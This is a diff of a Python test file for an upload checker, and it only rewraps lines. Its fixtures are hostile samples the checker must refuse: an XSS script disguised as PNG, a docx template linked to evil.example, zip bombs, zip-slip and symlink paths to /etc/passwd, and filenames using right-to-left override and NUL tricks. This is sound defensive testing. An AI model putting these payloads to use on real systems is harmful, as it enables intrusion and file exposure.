@@ -23,7 +23,8 @@ from tests.web.conftest import TESTER, person, signed_in
 PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
 PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
 JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(20) + b"\xff\xd9"
-MAIL = b"From: a@b.example\r\nTo: c@d.example\r\nDate: Mon, 1 Jan 2024 10:00:00 +0000\r\nSubject: Hours\r\n\r\nTen hours.\r\n"
+MAIL = (b"From: a@b.example\r\nTo: c@d.example\r\nDate: Mon, 1 Jan 2024 10:00:00 +0000\r\nSubject: Hours\r\n\r\n"
+        b"Ten hours.\r\n")
 TYPES = "[Content_Types].xml"
 PROGRAM, ELF = b"MZ\x90\x00" + bytes(60), b"\x7fELF" + bytes(60)
 HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
@@ -78,7 +79,8 @@ DISGUISED: list[tuple[str, bytes]] = [
     ("macro.docx", office(("word/vbaProject.bin", b"macro"), part="word/document.xml")),
     ("object.docx", office(("word/embeddings/oleObject1.bin", b"ole"), part="word/document.xml")),
     ("template.docx", office(("word/_rels/settings.xml.rels", b'<Relationship Type="x/attachedTemplate" '
-                              b'Target="http://evil.example/t.dotm" TargetMode="External"/>'), part="word/document.xml")),
+                              b'Target="http://evil.example/t.dotm" TargetMode="External"/>'),
+                              part="word/document.xml")),
     ("empty.pdf", b""), ("blank.csv", b"\xef\xbb\xbf \r\n\t"), ("nul.txt", b"hours\x00\x00"), ("nul.pdf", bytes(40)),
     ("no-ending", PDF), ("mail.eml", b"Just text.\n"),
     ("carrier.eml", MAIL + b'Content-Disposition: attachment; filename="invoice.exe"\r\n'),
@@ -87,7 +89,8 @@ ARCHIVES: list[tuple[str, bytes]] = [
     ("bomb.xlsx", office(("xl/big.xml", bytes(30_000_000)))),
     ("nested.docx", office(("word/inner.zip", archive(("a", b"b"))), part="word/document.xml")),
     ("many.xlsx", office(*((f"xl/{number}.xml", b"x") for number in range(1_001)))),
-    ("slip.xlsx", office(("../../etc/passwd", b"x"))), ("slip.docx", office(("/etc/passwd", b"x"), part="word/document.xml")),
+    ("slip.xlsx", office(("../../etc/passwd", b"x"))),
+    ("slip.docx", office(("/etc/passwd", b"x"), part="word/document.xml")),
     ("windows.xlsx", office(("C:\\autoexec.bat", b"x"))),
     ("link.xlsx", archive((TYPES, b"<Types/>"), ("xl/workbook.xml", b"/etc/passwd"),
                           change=lambda info: setattr(info, "external_attr", LINK))),
@@ -127,8 +130,10 @@ def test_a_file_that_is_too_large_is_refused():
 
 
 @pytest.mark.parametrize(("name", "shown"), [
-    ("../../etc/passwd.pdf", "passwd.pdf"), ("C:\\temp\\hours.pdf", "hours.pdf"), ("hours\u202efdp.exe", "hoursfdp.exe"),
-    ("a\x00b.pdf", "ab.pdf"), ("line\nbreak.pdf", "linebreak.pdf"), ("x" * 300 + ".pdf", "x" * (LONGEST_NAME - 4) + ".pdf"),
+    ("../../etc/passwd.pdf", "passwd.pdf"), ("C:\\temp\\hours.pdf", "hours.pdf"),
+    ("hours\u202efdp.exe", "hoursfdp.exe"),
+    ("a\x00b.pdf", "ab.pdf"), ("line\nbreak.pdf", "linebreak.pdf"),
+    ("x" * 300 + ".pdf", "x" * (LONGEST_NAME - 4) + ".pdf"),
     ("", "file"), ("  .pdf", ".pdf"),
 ])
 def test_a_name_is_shown_without_folders_and_hidden_signs(name, shown):
@@ -153,7 +158,8 @@ def test_bytes_are_kept_once_by_their_fingerprint_and_ten_that_were_damaged_are_
 
 
 @pytest.mark.parametrize(("command", "told"), [
-    ("sh -c 'exit 1'", "found something"), ("sh -c 'exit 2'", "does not answer"), ("/no/such/scanner", "does not answer")])
+    ("sh -c 'exit 1'", "found something"), ("sh -c 'exit 2'", "does not answer"),
+    ("/no/such/scanner", "does not answer")])
 def test_a_scanner_that_finds_something_or_cannot_tell_keeps_the_file_out(settings, tmp_path, command, told):
     settings.HOME, settings.SCANNER = tmp_path, command
     with pytest.raises(NotTaken, match=told):
@@ -201,10 +207,12 @@ def test_files_are_brought_shown_taken_away_and_sent_with_the_return(supplier, b
 
 def test_what_is_not_taken_says_why_beside_the_field_and_none_of_the_files_is_kept(supplier):
     page = _bring(supplier, ("hours.pdf", PDF), ("photo.png", HTML)).content.decode()
-    assert "The file is called a PNG picture, and its content is something else" in page and "There is a problem" in page
+    assert "The file is called a PNG picture, and its content is something else" in page
+    assert "There is a problem" in page
     assert not Upload.objects.exists()
     assert "Choose at least one file" in _bring(supplier).content.decode()
-    assert "write the date as year-month-day" in _bring(supplier, ("hours.pdf", PDF), dated="yesterday").content.decode()
+    page = _bring(supplier, ("hours.pdf", PDF), dated="yesterday").content.decode()
+    assert "write the date as year-month-day" in page
 
 
 def test_a_file_is_given_back_to_be_saved_and_never_shown(supplier, body):
